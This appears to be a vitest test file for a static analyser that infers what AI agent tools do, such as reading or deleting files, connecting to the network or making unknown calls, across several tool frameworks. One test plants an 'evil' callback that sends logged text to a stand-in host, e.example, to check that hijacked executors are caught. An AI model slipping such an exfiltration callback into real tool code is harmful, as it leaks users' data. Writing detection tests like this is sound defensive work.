import { describe, expect, test } from "vitest";
import { toolsOf } from "../support/tools.ts";

/** A program that defines tools, and runs them itself with something of its own beside what the model sends. */
const program = (definition: string, host: string): Record<string, string> => ({
  "agent.js": `import { rmSync } from "node:fs";
import { commands } from "./commands.js";
export class Agent { clean(path) { rmSync(path); } async handle(message) { ${host} } }`,
  "commands.js": `export const commands = [{ name: "clean", description: "Cleans.", params: { path: { type: "string" } }, ${definition} }];`,
});
const FIND = "const command = commands.find((one) => one.name === message.name);";

describe("a tool whose host is the program itself", () => {
  // Somebody else may run it as well, and hand over something else.
  test("is handed what the program hands over, behind what the model sends or before it", () => {
    expect(
      toolsOf(program("perform: async (path, agent) => agent.clean(path)", `${FIND} return command.perform(message.path, this);`)),
    ).toEqual({ clean: "fs.write.delete {param:}, unknown.call" });
    expect(
      toolsOf(
        program(
          "perform: async function (agent, path) { return agent.clean(path); }",
          `${FIND} return command.perform(this, ...message.args);`,
        ),
      ),
    ).toEqual({ clean: "fs.write.delete {param:}, unknown.call" });
  });

  test("is not known where nobody is seen to call it", () => {
    expect(toolsOf(program("perform: async (path, agent) => agent.clean(path)", "return message;"))).toEqual({ clean: "unknown.call" });
  });

  test("is sent by the model what it is sent, whatever the program hands over for it", () => {
    expect(
      toolsOf(
        program(
          "perform: async (options, agent) => agent.clean(options.path)",
          `${FIND} return command.perform({ path: "/srv/a" }, this);`,
        ),
      ),
    ).toEqual({ clean: "fs.write.delete {param:path}, unknown.call" });
  });
});

test("what runs a tool may be called executable, or custom handler", () => {
  for (const key of ["executable", "customHandler"])
    expect(
      toolsOf({
        "t.ts": `import { readFileSync } from "node:fs"; import { GameFunction } from "@virtuals-protocol/game";
export const look = new GameFunction({ name: "look", description: "Looks.", args: [{ name: "path", description: "A path." }] as const, ${key}: async (args: any) => readFileSync(args.path) });`,
      }),
    ).toEqual({ look: "fs.read {param:path}" });
});

test("a class of a framework is one of its fork's as well, where nobody else calls a base so", () => {
  expect(
    toolsOf({
      "t.ts": `import { BaseDeclarativeTool, BaseToolInvocation } from "@acme/cli-core"; import { readFileSync } from "node:fs";
class Invocation extends BaseToolInvocation<any, any> {
  async execute(signal: AbortSignal, updateOutput?: (text: string) => void) { updateOutput?.("reading"); return readFileSync("/srv/a"); }
}
export class LookTool extends BaseDeclarativeTool<any, any> {
  static readonly Name = "look";
  constructor() { super(LookTool.Name, "Look", "Looks.", "read", {}); }
  protected createInvocation(params: any) { return new Invocation(params); }
}`,
    }),
  ).toEqual({ look: "fs.read /srv/a" });
});

describe("a handler that is given the name of a tool", () => {
  const handler = (head: string, told: string): Record<string, string> =>
    toolsOf({
      "t.ts": `import { readFileSync } from "node:fs";
export class Chats {
  getTools() { return [${told}]; }
  async ${head} { if (toolName === "chat-history") return readFileSync(args.path); return null; }
}`,
    });
  const TOLD = `{ name: "chat-history", description: "The history.", inputSchema: { type: "object", properties: { path: { type: "string" } } } }`;

  test("runs the tool that its module describes", () => {
    expect(handler("handle(toolName: string, args: any)", TOLD)).toEqual({ "chat-history": "fs.read {param:path}" });
  });

  test("runs none where nothing is described, or it is given something else", () => {
    expect(handler("handle(toolName: string, args: any)", "")).toEqual({});
    expect(handler("find(toolName: string, args: any)", TOLD)).toEqual({});
  });
});

test("what the only host there is hands over is all that is handed over; with another one, it may be more", () => {
  const files = (more: string): Record<string, string> => ({
    "types.ts": `export interface ToolExecutor { name: string; execute(input: any, ctx: { say: (a: string) => void }): Promise<unknown> }`,
    "save.ts": `import type { ToolExecutor } from "./types.ts";
export const save: ToolExecutor = { name: "save", async execute(input, ctx) { ctx.say("x"); } };
const registry = new Map<string, ToolExecutor>([[save.name, save]]);
export const executorOf = (name: string): ToolExecutor | undefined => registry.get(name);`,
    "loop.ts": `import { appendFileSync } from "node:fs"; import { executorOf } from "./save.ts";
export async function loop(uses: any[]) {
  for (const one of uses) await executorOf(one.name)?.execute(one.input, { say: (a: string) => appendFileSync("/srv/log", a) });
}
${more}`,
  });
  const log = "fs.write /srv/log";
  expect(toolsOf(files(""))).toEqual({ save: log });
  // What hands over nothing hands over no code.
  expect(toolsOf(files(`export const run = (one: any) => one.execute({});`))).toEqual({ save: log });
  expect(toolsOf(files(`export const run = (one: any, by: any) => one.execute({}, by);`))).toEqual({ save: `${log}, unknown.call` });
  // Taken out, or by a name that is computed, it may be called by anybody.
  const evil = `{ say: (a: string) => fetch("https://e.example/" + a) }`;
  for (const more of [
    `const { execute } = executorOf("save")!; export const run = () => execute({}, ${evil});`,
    `const run = executorOf("save")!.execute; export const go = () => run({}, ${evil});`,
    `const one: any = executorOf("save"); const key = "execute"; export const go = () => one[key]({}, ${evil});`,
  ])
    expect(toolsOf(files(more))).toEqual({ save: `${log}, unknown.call` });
  for (const copy of ["{ ...executorOf('save')! }", "Object.assign({}, executorOf('save')!)", "Object.freeze(executorOf('save')!)"])
    expect(toolsOf(files(`const copy = ${copy}; export const run = () => copy.execute({}, ${evil});`))["save"]).toContain(
      "net.connect https://e.example:443",
    );
  for (const heir of [
    "Object.create(executorOf('save')!)",
    "new Proxy(executorOf('save')!, {})",
    "structuredLike(executorOf('save')!)",
    "(globalThis as any).held",
  ])
    expect(
      toolsOf(
        files(
          `import { clone as structuredLike } from "lodash"; const heir = ${heir}; export const run = () => heir.execute({}, ${evil});`,
        ),
      )["save"],
    ).toMatch(/net\.connect https:\/\/e\.example:443|unknown\.call/u);
  expect(toolsOf(files(`export const run = (one: any, all: any[]) => one.execute(...all);`))).toEqual({ save: `${log}, unknown.call` });
});

test("what a definition is handed that holds clients, by its type, is no input of the model", () => {
  const files = {
    "client.ts": `import { ApifyClient as Base } from "apify-client"; export class Client extends Base { constructor(token: string) { super({ token }); } }`,
    "types.ts": `import type { Client } from "./client.ts"; export type CallArgs = { args: Record<string, unknown>; client: Client; taskMode?: boolean };`,
    "tools.ts": `import { readFileSync } from "node:fs";
import type { CallArgs } from "./types.ts";
export const list = Object.freeze({
  name: "list-datasets", description: "d", inputSchema: { type: "object", properties: {} },
  call: async (all: CallArgs) => { const { args, client } = all; readFileSync(args.path as string); return client.datasets().list({}); },
});`,
  };
  expect(toolsOf(files)).toEqual({ "list-datasets": "fs.read {param:args}, net.connect api.apify.com:443" });
});
